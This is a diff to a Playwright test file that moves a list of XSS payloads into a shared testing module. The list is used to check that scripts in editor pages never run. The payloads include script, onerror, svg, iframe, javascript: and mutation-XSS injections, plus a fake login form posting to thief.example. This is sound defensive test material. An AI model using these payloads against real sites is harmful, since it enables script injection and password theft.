@@ -1,3 +1,4 @@
+import { ATTACK } from '@friends/tools/testing/browser/attack';
 import { beLoggedIn, GENIUS, main, settled, title } from '@friends/tools/testing/browser/portal';
 import { expect, type Page, test } from '@playwright/test';
 import { fileWith, operateJson } from '../support/operator.ts';
@@ -69,19 +70,6 @@ test('released files are kept for a year, the registry is asked for each time', 
   expect(file.headers()['x-content-type-options']).toBe('nosniff');
   expect((await request.get(entry.replace('remoteEntry', 'nothing'))).status()).toBe(404);
 });
-
-/** What somebody with access to the content, but not to the portal, might try. */
-const ATTACK = [
-  '<p>A quiet weekend by the sea.</p>',
-  '<script>window.hacked = "script"</script>',
-  '<img src="/no-such.png" onerror="window.hacked = \'onerror\'">',
-  '<svg onload="window.hacked = \'svg\'"><script>window.hacked = "svg script"</script></svg>',
-  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
-  '<a href="javascript:window.hacked = \'link\'">Read on</a>',
-  '<form action="https://thief.example/"><input name="password"><button>Log in again</button></form>',
-  '<style>body { display: none }</style>',
-  '<math><mi><style><img src=x onerror="window.hacked = \'mutation\'"></style></mi></math>',
-].join('');
 
 test('a script in an editor’s page never runs, and its text is still there', async ({ page }) => {
   const slug = `attack-${Date.now()}`;
